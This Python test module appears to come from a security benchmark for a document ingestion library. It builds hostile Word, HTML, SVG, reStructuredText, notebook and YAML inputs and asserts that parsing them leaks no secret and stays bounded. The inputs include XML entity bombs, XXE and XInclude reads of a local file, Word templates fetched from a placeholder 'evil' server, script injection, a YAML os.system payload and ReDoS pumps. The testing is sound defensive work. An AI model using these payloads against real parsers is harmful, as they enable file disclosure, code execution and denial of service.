"""Documents made to break what reads them: bombs, entities, depth, drawings, and links that are scripts."""

from __future__ import annotations

import io
import json
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from functools import cache, partial
from pathlib import Path

from benchmarks.abuse.case import Case, grows_linearly, within
from benchmarks.abuse.payloads import MARKUP, ORDERS, RUN
from benchmarks.abuse.sinks import inert_html, inert_markdown
from lossclinic_kb.errors import UnreadableDocument

XML = "XML, HTML and SVG"
SPEED = "growth of documents"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'
SECRET = "kept secret"


def _file(path: Path) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{path.as_uri()}">]>'


@cache
def _word() -> bytes:
    """Return an honest Word document."""
    from docx import Document

    made, out = Document(), io.BytesIO()
    made.add_paragraph("The loss turns NaN on the second card.")
    made.save(out)
    return out.getvalue()


def word_with(part: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return a Word document of which one part is changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_word())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name == part else old.read(name))
    return out.getvalue()


def _declared(declaration: str, entity: str) -> bytes:
    """Return a Word document that declares entities and uses one."""

    def change(xml: bytes) -> bytes:
        head, _, rest = xml.partition(b"?>")
        return (
            head + b"?>" + declaration.encode() + rest.replace(b"The loss", f"&{entity}; The loss".encode())
        )

    return word_with("word/document.xml", change)


def _relation(target: str) -> bytes:
    """Return a Word document that says that a part of it lies elsewhere."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    entry = (
        f'<Relationship Id="rId99" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return word_with(
        "word/_rels/document.xml.rels", lambda xml: xml.replace(b"</Relationships>", entry.encode())
    )


HOSTILE: dict[str, Callable[[Path], tuple[str, bytes]]] = {
    "Word, a billion laughs": lambda _: ("a.docx", _declared(BOMB.replace("<!DOCTYPE x", "<!DOCTYPE w:document"), "l9")),
    "Word, entity of a file": lambda secret: ("a.docx", _declared(_file(secret).replace(" x ", " w:document "), "e")),
    "Word, template elsewhere": lambda secret: ("a.docx", _relation(secret.as_uri())),
    "Word, template on a server": lambda _: ("a.docx", _relation("http://192.0.2.1/evil.dotm")),
    "Word, a part of 30 MB of blanks": lambda _: ("a.docx", _swollen()),
    "Word, 100 000 levels": lambda _: ("a.docx", word_with("word/document.xml", lambda x: x.replace(b"<w:body>", b"<w:body>" + b"<w:sdt>" * 100_000))),
    "HTML, a billion laughs": lambda _: ("a.html", f"{BOMB}<html><p>&l9; The loss is NaN.</p></html>".encode()),
    "HTML, entity of a file": lambda secret: ("a.html", f"{_file(secret)}<html><p>&e; The loss is NaN.</p></html>".encode()),
    "XHTML, a billion laughs": lambda _: ("a.xhtml", f'<?xml version="1.0"?>{BOMB}<html><p>&l9; The loss is NaN.</p></html>'.encode()),
    "XHTML, inclusion": lambda secret: ("a.xhtml", f'<html xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{secret.as_uri()}" parse="text"/><p>The loss is NaN.</p></html>'.encode()),
    "HTML, 200 000 levels": lambda _: ("a.html", b"<div>" * 200_000 + b"The loss is NaN."),
    "HTML, 200 000 tables": lambda _: ("a.html", b"<table><tr><td>" * 200_000 + b"The loss is NaN."),
    "HTML, frame of a file": lambda secret: ("a.html", f'<iframe src="{secret.as_uri()}"></iframe><p>The loss is NaN.</p>'.encode()),
    "SVG": lambda secret: ("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{secret.as_uri()}"/></svg>'.encode()),
    "SVG in Markdown": lambda _: ("a.md", f'# Loss\n\n<svg onload="{RUN}"><script>{RUN}</script></svg>\n\nThe loss is NaN.\n'.encode()),
    "reStructuredText, file included": lambda secret: ("a.rst", f".. include:: {secret}\n\n.. raw:: html\n   :file: {secret}\n\nThe loss is NaN.\n".encode()),
    "reStructuredText, table of a file": lambda secret: ("a.rst", f".. csv-table::\n   :file: {secret}\n\nThe loss is NaN.\n".encode()),
    "reStructuredText, table of a server": lambda _: ("a.rst", b".. csv-table::\n   :url: http://192.0.2.1/x.csv\n\nThe loss is NaN.\n"),
    "notebook, 100 000 levels": lambda _: ("a.ipynb", b'{"nbformat":4,"cells":' + b"[" * 100_000),
    "notebook, long numbers": lambda _: ("a.ipynb", b'{"nbformat":4,"cells":[{"cell_type":"heading","level":%s,"source":"NaN"}]}' % (b"9" * 10_000)),
    "notebook, script as output": lambda _: ("a.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "loss", "outputs": [{"data": {"text/html": f"<script>{RUN}</script>"}, "text": 5}]}]}).encode()),
    "front matter, objects of YAML": lambda secret: ("a.md", f"---\ntitle: !!python/object/apply:os.system ['cat {secret}']\n---\nThe loss is NaN.\n".encode()),
    "front matter, a billion laughs": lambda _: ("a.md", b"---\na: &a [x,x]\n" + b"".join(b"b%d: &b%d [*a,*a]\n" % (n, n) for n in range(99)) + b"---\nThe loss is NaN.\n"),
}  # fmt: skip


def _swollen() -> bytes:
    return word_with("word/styles.xml", lambda xml: xml + b" " * 30_000_000)


def _read(name: str) -> None:
    from lossclinic_ingest.documents.formats import read_document
    from lossclinic_ingest.documents.pieces import pieces_of

    with tempfile.TemporaryDirectory() as made, within(10):
        secret = Path(made, "secret.txt")
        secret.write_text(SECRET)
        file, data = HOSTILE[name](secret)
        try:
            content = read_document(file, data)
        except UnreadableDocument as error:
            assert all(line and "\n" not in line for line in (error.text.en, error.text.zh))
            assert SECRET not in str(error)
            return
        texts = [f"{piece.heading} {piece.text}" for piece in pieces_of(content)]
        assert not any(SECRET in text for text in texts)
        assert sum(map(len, texts)) < 20 * len(data) + 10_000
        assert RUN not in " ".join(texts) or not file.endswith("html")


MAKERS: dict[str, Callable[[str], bytes]] = {
    "a.md": lambda text: f"# {text}\n\n{text}\n\n    {text}\n\n| a |\n| --- |\n| {text} |\n".encode("utf-8", "replace"),
    "a.txt": lambda text: f"{text}\n\n{text}\n".encode("utf-8", "replace"),
    "a.rst": lambda text: f"Loss\n====\n\n{text}\n\n::\n\n   {text}\n".encode("utf-8", "replace"),
    "a.html": lambda text: f"<html><title>{text}</title><h1>{text}</h1><p>{text}</p><pre>{text}</pre></html>".encode("utf-8", "replace"),
    "a.ipynb": lambda text: json.dumps({"nbformat": 4, "cells": [{"cell_type": "markdown", "source": text}, {"cell_type": "code", "source": text}]}).encode(),
}  # fmt: skip


def _quoted(maker: str) -> None:
    """What was read from a document is quoted as text in cards and reports, and its link leads to the file alone."""
    from dataclasses import replace

    from benchmarks.abuse.subject import hostile_case, passage
    from lossclinic.render import markdown
    from lossclinic.ui.parts.cards import panel
    from lossclinic_ingest.documents.formats import read_document
    from lossclinic_ingest.documents.pieces import pieces_of

    shown = []
    for text in (*MARKUP.values(), *ORDERS):
        try:
            pieces = pieces_of(read_document(maker, MAKERS[maker](f"The loss is NaN. {text}")))
        except UnreadableDocument:
            continue
        shown += [replace(passage(each.text, f"{text}.md"), heading=each.heading) for each in pieces]
    assert len(shown) > len(MARKUP)
    made = replace(hostile_case("plain name"), documents=tuple(shown))
    inert_html(panel(made))
    inert_markdown(markdown(replace(made, run=None, causes=())))


PUMPS = (
    "![", "[", "](", "[a](", "![a](", "*", "**a", "*_", "_", "`", "``a", "<", "<a ", "<!--", "&", "&#", "> ", "- ", "1. ", "# ",
    "|", "| a |\n", "\t", " ", "\n", "a\n", "a " * 40 + "\n", "~~~\n", "```\n", "<div>", "</p>", "<table>", "[a]: b\n", "[a][b]",
    "\\", "a-\n", ".. x::\n", "`a`_ ", "|a| ", "::\n", "==\n", ".. [#] ", "a\n=\n", "   - ", "|a|_ ", "[#]_ ", "`a <b>`_ ", ".. _a:\n\n", ".. |a| replace:: b\n", "data:a;base64," + "A" * 64, "是", "。",
)  # fmt: skip
"""What a parser may go back over again and again."""


def _grows(maker: str, pump: str) -> None:
    from lossclinic_ingest.documents.formats import read_document
    from lossclinic_ingest.documents.pieces import pieces_of

    def work(size: int) -> None:
        text = "loss " + pump * (size // len(pump))
        try:
            pieces_of(read_document(maker, text.encode()))
        except UnreadableDocument:
            return

    work(1000)
    grows_linearly(work, 4000, least=0.5)


def cases() -> Iterator[Case]:
    """Yield every hostile document, every text in every format, and every pump."""
    for name in HOSTILE:
        yield Case(XML, name, partial(_read, name), "levels" not in name and "tables" not in name)
    for maker in MAKERS:
        yield Case(
            "links and markup of documents", maker, partial(_quoted, maker), maker in ("a.md", "a.html")
        )
        if maker != "a.ipynb":
            for pump in PUMPS:
                yield Case(SPEED, f"{maker} of {pump[:12]!r}", partial(_grows, maker, pump), short=False)
